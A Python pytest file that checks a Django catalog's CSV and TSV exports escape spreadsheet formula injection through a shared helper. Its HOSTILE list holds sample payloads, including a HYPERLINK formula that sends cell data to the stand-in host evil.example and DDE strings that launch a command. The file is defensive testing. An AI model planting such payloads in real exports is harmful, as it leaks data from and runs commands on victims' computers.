"""Formula injection (OWASP "CSV injection"; issue 14, item 4): every CSV or TSV the project writes
neutralises cells a spreadsheet would run as a formula, with one helper — the one the daily report
CSV already used. Product names, SKUs and barcodes come from people (the admin, the API, an
import), so an exported `=HYPERLINK(…)` must come out as text."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.auth.models import Group
from django.test import Client

from catalog.admin import ProductAdmin
from catalog.imports import COLUMNS, product_export_csv
from catalog.models import Product
from spreadsheets import safe_cell
from tests.catalog.factories import ProductFactory
from tests.factories import ManagerFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_neutralises_formulas(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Coffee", "Coffee"),
        ("-1.50", "-1.50"),  # a number stays a number
        ("+3", "+3"),
        ("", ""),
        (None, ""),
        (12, "12"),
        ("a=b", "a=b"),
    ],
)
def test_safe_cell_leaves_text_and_numbers_alone(value: Any, expected: str) -> None:
    assert safe_cell(value) == expected


def test_the_daily_report_csv_uses_the_same_helper() -> None:
    from orders.services import reports

    assert reports.safe_cell is safe_cell


@pytest.fixture
def hostile_products(db: None) -> list[Product]:
    return [
        ProductFactory(sku=f"EVIL-{number}", name=name, barcode=f"=9{number}")
        for number, name in enumerate(HOSTILE)
    ]


def _cells(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


def test_product_export_csv_escapes_formulas(hostile_products: list[Product]) -> None:
    rows = {row["sku"]: row for row in _cells(product_export_csv())}
    for product in hostile_products:
        assert rows[product.sku]["name"] == "'" + product.name
        assert rows[product.sku]["barcode"] == "'" + product.barcode


@pytest.fixture
def manager_admin(store: Any) -> Client:
    manager = ManagerFactory(stores=[store])
    manager.groups.add(Group.objects.get(name="manager"))
    client = Client()
    client.force_login(manager)
    return client


def _format_index(name: str) -> str:
    from django.contrib import admin

    formats = ProductAdmin(Product, admin.site).get_export_formats()
    return str(next(i for i, f in enumerate(formats) if f().get_title() == name))


@pytest.mark.parametrize(("title", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_admin_product_export_escapes_formulas(
    manager_admin: Client, hostile_products: list[Product], title: str, delimiter: str
) -> None:
    response = manager_admin.post(
        "/admin/catalog/product/export/",
        {
            "format": _format_index(title),
            "resource": "0",
            **{f"productresource_{c}": "on" for c in COLUMNS},
        },
    )
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    rows = {row["sku"]: row for row in _cells(content.decode(), delimiter)}
    for product in hostile_products:
        assert rows[product.sku]["name"] == "'" + product.name, title
        assert rows[product.sku]["barcode"] == "'" + product.barcode, title
    # Nothing else is touched: prices and ids stay numbers.
    assert all(not row["price"].startswith("'") for row in rows.values())
